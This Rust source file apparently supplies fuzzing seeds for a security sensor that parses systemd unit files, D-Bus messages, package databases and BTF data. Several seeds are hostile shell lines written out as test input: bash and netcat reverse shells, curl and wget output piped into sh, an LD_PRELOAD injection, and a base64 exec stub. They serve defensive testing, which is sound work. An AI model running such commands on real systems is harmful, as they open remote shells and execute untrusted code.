//! What corpora begin with: one small sound input or more of everything that a target reads.

use sensor_common::record::{IpcRecord, TaskContext, kind};
use sensor_common::watch::SUBTREE;
use sensor_user::event::content::{FileContent, Found, Regular};
use sensor_user::event::encode::{
    ExecParts, FileRecordBuilder, encode_exec, encode_exit, encode_fork, encode_send, encode_tick,
    encode_user,
};
use sensor_user::event::user::{Host, ProcessSnapshot, Watch, WatchClass};
use sensor_user::source::recording::Writer;

use super::stream::as_piece;
use super::unit::{END, LINK, PLACES};

const SERVICE: &str = "[Unit]\nDescription=A %n\nWants=w.service %p.target\nOnFailure=f@%n.service\nConditionPathExists=/x\n\
    [Service]\nType=oneshot\nUser=one\nEnvironment=A=1 \"LD_PRELOAD=/tmp/x.so\"\nEnvironmentFile=-/etc/default/a\n\
    ExecStartPre=-@/bin/sh zero -c \"echo %i\"\nExecStart=/usr/bin/curl -s http://x \\\n# between\n  -o /tmp/y ; /tmp/y\n\
    ExecStopPost=+!/bin/%p\nRestart=no\n[Install]\nWantedBy=multi-user.target\nAlias=b.service\n";
const SOCKET: &str =
    "[Socket]\nListenStream=127.0.0.1:80\nListenFIFO=/run/f\nAccept=yes\nExecStartPre=/bin/x\n";
const TIMER: &str = "[Timer]\nOnCalendar=*:0/1\nOnBootSec=1\nUnit=a.service\nPersistent=on\n";
const DROP_IN: &str = "[Service]\nExecStart=\nExecStart=/bin/sh -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'\nUser=\nEnvironment=\n";
const ODD: &str =
    "\u{feff}[Service]\r\nExecStart=/bin/base\r\n; comment \\\n[ Service ]\ngarbage\n=x\nUser = a \\\n";

/// Command lines, words and specifiers.
const LINES: [&str; 10] = [
    "/bin/echo one 'two three' \"four\\x20five\" %n $A ${B} $$ %%",
    "-@/bin/sh zero %N %p %i %I %j ; /bin/b x \\; ';' ;y",
    ":!!/bin/x \\q\\d \\u00e9 \\101 \\U0001f600",
    "+/bin//y/./z \"open",
    "bin/relative",
    "|sh -c x",
    "/bin/%h/%t/%S/%C/%L/%E/%T/%V/%u/%U/%y/%f/%J/%P",
    "/usr/bin/python3 -c 'import socket,os;exec(__import__(\"base64\").b64decode(\"aGk=\"))'",
    "/bin/bash -c \"curl http://198.51.100.7/a | sh; nc -e /bin/sh 198.51.100.7 9\"",
    "#!/bin/sh\nwget -O- http://x | bash\n/dev/tcp/1.2.3.4/5\n",
];

/// Of dpkg, pacman and apk. rpm's is a binary one that the fuzzer finds by its own way from a bare header.
const DATABASES: [&[u8]; 8] = [
    b"Package: vim\nStatus: install ok installed\nArchitecture: amd64\nMulti-Arch: same\nVersion: 2:9.0-1\nConffiles:\n \
        /etc/vim/vimrc 0123456789abcdef0123456789abcdef obsolete\n /etc/b newconffile\n\n",
    b"0123456789abcdef0123456789abcdef  usr/bin/vi\n",
    b"/usr/bin/vi\n/usr/bin/vi.distrib\nvim\n/etc/x\n/etc/y\n:\n",
    b"auto\n/usr/bin/vi\nvi.1.gz\n/usr/share/man/man1/vi.1.gz\n\n/usr/bin/vim.basic\n30\n/usr/share/man/man1/vim.1.gz\n\n",
    b"%NAME%\nvim\n\n%VERSION%\n9-1\n\n%FILES%\nusr/bin/\nusr/bin/vi\n\n%BACKUP%\netc/vimrc\t0123456789abcdef0123456789abcdef\n\n",
    b"#mtree\n/set type=file\n./usr/bin/vi md5digest=0123456789abcdef0123456789abcdef link=v\\040i\n",
    b"P:vim\nV:9\nA:x86_64\nF:usr/bin\nR:vi\na:0:0:755\nZ:Q1omekF2eGfHkruHcdTRuR58ZX7yI=\n\n",
    b"\0\0\0\x04\0\0\0\x10\0\0\x03\xe8\0\0\0\x06\0\0\0\0\0\0\0\x01\0\0\x03\xe9\0\0\0\x06\0\0\0\0\0\0\0\x01\
        \0\0\x03\xea\0\0\0\x06\0\0\0\0\0\0\0\x01\0\0\x04\x5d\0\0\0\x08\0\0\0\0\0\0\0\x02one\0two\0vi\0\0\0\0\0\0",
];

/// What sd-bus sends first (src/libsystemd/sd-bus/bus-socket.c).
const AUTHENTICATION: &[u8] = b"\0AUTH EXTERNAL\r\nDATA\r\nNEGOTIATE_UNIX_FD\r\nBEGIN\r\n";

/// The inputs with which a target's corpus begins.
pub fn seeds(target: &str) -> Vec<Vec<u8>> {
    match target {
        "unit" => units(),
        "command" => {
            let line = |(choice, line): (usize, &&str)| [&[choice as u8 * 25][..], line.as_bytes()].concat();
            LINES.iter().enumerate().map(line).collect()
        }
        "bus" => messages(),
        "records" => vec![life().iter().flat_map(|record| as_piece(record)).collect(), as_piece(&life()[0])],
        "recording" => {
            let mut writer = Writer::new(Vec::new()).expect("memory takes everything");
            for record in life() {
                writer.record(&record).expect("memory takes everything");
            }
            vec![writer.into_inner(), life().iter().flat_map(|record| as_piece(record)).collect()]
        }
        "btf" => type_information(),
        "packages" => DATABASES.iter().map(|text| text.to_vec()).collect(),
        _ => Vec::new(),
    }
}

fn units() -> Vec<Vec<u8>> {
    let at = |path: &str| PLACES.iter().position(|place| *place == path).expect("one of the places") as u8;
    let join = |files: &[(u8, &str)]| -> Vec<u8> {
        let file = |(place, text): &(u8, &str)| [&[*place][..], text.as_bytes()].concat();
        files.iter().map(file).collect::<Vec<_>>().join(&END)
    };
    let service = (at("/usr/lib/systemd/system/a.service"), SERVICE);
    let drop_in = at("/etc/systemd/system/a-.service.d/2.conf");
    vec![
        join(&[service, (at("/etc/systemd/system/a.service.d/3.conf"), DROP_IN)]),
        join(&[(at("/etc/systemd/system/a-b.service"), SERVICE), (drop_in, ODD), (drop_in, "")]),
        join(&[(at("/etc/systemd/system/a.socket"), SOCKET), (at("/etc/systemd/system/a.timer"), TIMER)]),
        join(&[
            (at("/etc/systemd/system/t@.service"), SERVICE),
            (at("/etc/systemd/system/t@x.service.d/5.conf"), DROP_IN),
            (at("/etc/systemd/system/g.target.requires/t@x.service") | LINK, "../t@.service"),
        ]),
        join(&[service, (at("/etc/systemd/system/a.service") | LINK, "/dev/null")]),
        join(&[
            service,
            (at("/etc/systemd/system/b.service") | LINK, "a.service"),
            (at("/lib") | LINK, "usr/lib"),
        ]),
        join(&[(at("/opt/linked"), ODD), (at("/run/systemd/system/a.service") | LINK, "/opt/linked")]),
    ]
}

/// A method call without arguments, as "Message Format" of the D-Bus specification lays it out.
fn call(member: &str, signature: &str, body: &[u8]) -> Vec<u8> {
    let mut fields = Vec::new();
    for (code, kind, text) in [
        (1, "o", "/org/freedesktop/systemd1"),
        (2, "s", "org.freedesktop.systemd1.Manager"),
        (3, "s", member),
        (6, "s", "org.freedesktop.systemd1"),
        (8, "g", signature),
    ] {
        fields.resize(fields.len().next_multiple_of(8), 0);
        fields.extend([code, 1]);
        fields.extend(kind.as_bytes());
        fields.push(0);
        if kind == "g" {
            fields.push(text.len() as u8);
        } else {
            fields.extend((text.len() as u32).to_le_bytes());
        }
        fields.extend(text.as_bytes());
        fields.push(0);
    }
    let mut bytes = vec![b'l', 1, 0, 1];
    for number in [body.len(), 1, fields.len()] {
        bytes.extend((number as u32).to_le_bytes());
    }
    bytes.extend(&fields);
    bytes.resize(bytes.len().next_multiple_of(8), 0);
    bytes.extend(body);
    bytes
}

fn texts(texts: &[&str]) -> Vec<u8> {
    let mut body = Vec::new();
    for text in texts {
        body.resize(body.len().next_multiple_of(4), 0);
        body.extend((text.len() as u32).to_le_bytes());
        body.extend(text.as_bytes());
        body.push(0);
    }
    body
}

fn messages() -> Vec<Vec<u8>> {
    let start = call("StartUnit", "ss", &texts(&["a.service", "replace"]));
    // An array with one text, then two switches.
    let mut enable = texts(&["a.service"]);
    enable.splice(0..0, (enable.len() as u32).to_le_bytes());
    enable.resize(enable.len().next_multiple_of(4), 0);
    enable.extend([0; 8]);
    let enable = call("EnableUnitFiles", "asbb", &enable);
    let send = |how: u8, bytes: &[u8]| as_piece(&[&[how][..], bytes].concat());
    vec![
        [send(0, AUTHENTICATION), send(0, &start), send(0, &call("Reload", "", &[]))].concat(),
        [send(1, &[AUTHENTICATION, &enable[..40]].concat()), send(1, &enable[40..])].concat(),
        [send(0x10, &start), send(0x20, &start), send(0x80, &enable), send(0, &start)].concat(),
        start,
        enable,
    ]
}

/// A machine's first records: what there is, a shell that writes a unit, and who asks to start it.
fn life() -> Vec<Vec<u8>> {
    let task = TaskContext { tgid: 812, tid: 812, parent_tgid: 1, mnt_ns: 9, ..TaskContext::default() };
    let host = Host {
        hostname: "host".into(),
        machine_id: "m".into(),
        boot_id: "b".into(),
        kernel_release: "6.1".into(),
        realtime_offset_ns: 1_700_000_000_000_000_000,
        backend: "lsm".into(),
        init_mnt_ns: 9,
        init_pid_ns: 5,
    };
    let watch =
        |watch, path: &str, class| Watch { watch, path: path.into(), class: Some(class), owner: None };
    let content = FileContent {
        path: b"/etc/systemd/system/a.service".into(),
        baseline: false,
        survey: None,
        found: Found::Regular(Regular {
            inode: 7,
            mode: 0o100_644,
            uid: 0,
            size: SERVICE.len() as u64,
            content: SERVICE.into(),
            unstable: false,
        }),
    };
    let user = [
        encode_user(kind::HOST, 1, &host),
        encode_user(kind::WATCH, 2, &watch(1, "/etc/systemd/system", WatchClass::SystemUnit)),
        encode_user(kind::WATCH, 2, &watch(2, "/run/systemd/private", WatchClass::ManagerSocket)),
        encode_user(kind::PROCESS_SNAPSHOT, 3, &ProcessSnapshot { tgid: 1, ..ProcessSnapshot::default() }),
    ];
    let file =
        |number, time| FileRecordBuilder::new(number, time, task).path(1, SUBTREE, b"a.service").build();
    let exec = ExecParts {
        task,
        exe: sensor_common::record::FileIdentity::default(),
        filename: b"/usr/bin/docker",
        exe_path: b"/usr/bin/docker",
        cwd: b"/root",
        args: &[b"docker", b"run", b"-d", b"--restart=always", b"x"],
        flags: 0,
    };
    let send = IpcRecord { task, connection: 5, watch: 2, socket_type: 1, ..IpcRecord::default() };
    let start = call("StartUnit", "ss", &texts(&["a.service", "replace"]));
    let mut records: Vec<Vec<u8>> =
        user.into_iter().map(|record| record.expect("these have a JSON form")).collect();
    records.extend([
        encode_fork(10, task, 900, 11),
        encode_exec(12, &exec),
        file(kind::FILE_CREATE, 13),
        file(kind::FILE_CLOSE_WRITE, 14),
        encode_user(kind::FILE_CONTENT, 15, &content).expect("it has a JSON form"),
        FileRecordBuilder::new(kind::FILE_RENAME, 16, task)
            .path(1, SUBTREE, b"a.service")
            .other(1, SUBTREE, b"b.service")
            .build(),
        encode_send(&send, &[AUTHENTICATION, &start].concat()),
        encode_exit(18, 900, 11, 0),
        encode_tick(20_000_000_000).to_vec(),
    ]);
    records
}

/// A structure in another, a function with an argument, an enumeration: each kind that is asked for
/// (Documentation/bpf/btf.rst in the kernel's sources).
fn type_information() -> Vec<Vec<u8>> {
    let strings = b"\0int\0inner\0a\0outer\0x\0y\0f\0who\0kinds\0btf_trace_f\0";
    let name = |text: &str| {
        let whole = [b"\0", text.as_bytes(), b"\0"].concat();
        strings.windows(whole.len()).position(|part| part == whole).expect("one of the strings") as u32 + 1
    };
    let info = |kind: u32, count: u32| kind << 24 | count;
    let types = [
        &[name("int"), info(1, 0), 4, 32][..],
        &[name("inner"), info(4, 1), 8, name("a"), 1, 32],
        &[0, info(5, 2), 8, name("x"), 2, 0, name("y"), 1, 0],
        &[name("outer"), info(4, 1), 24, 0, 3, 128],
        &[0, info(2, 0), 4],
        &[0, info(13, 1), 0, name("who"), 5],
        &[name("f"), info(12, 0), 6],
        &[name("kinds"), info(6, 2), 4, name("x"), 4, name("y"), 8],
        &[name("btf_trace_f"), info(8, 0), 5],
    ];
    let blob = |types: &[u32]| -> Vec<u8> {
        let length = types.len() as u32 * 4;
        let header = [0x0001_eb9f, 24, 0, length, length, strings.len() as u32];
        let words = header.iter().chain(types).flat_map(|word| word.to_ne_bytes());
        words.chain(strings.iter().copied()).collect()
    };
    vec![blob(&types.concat()), blob(&types[..2].concat())]
}
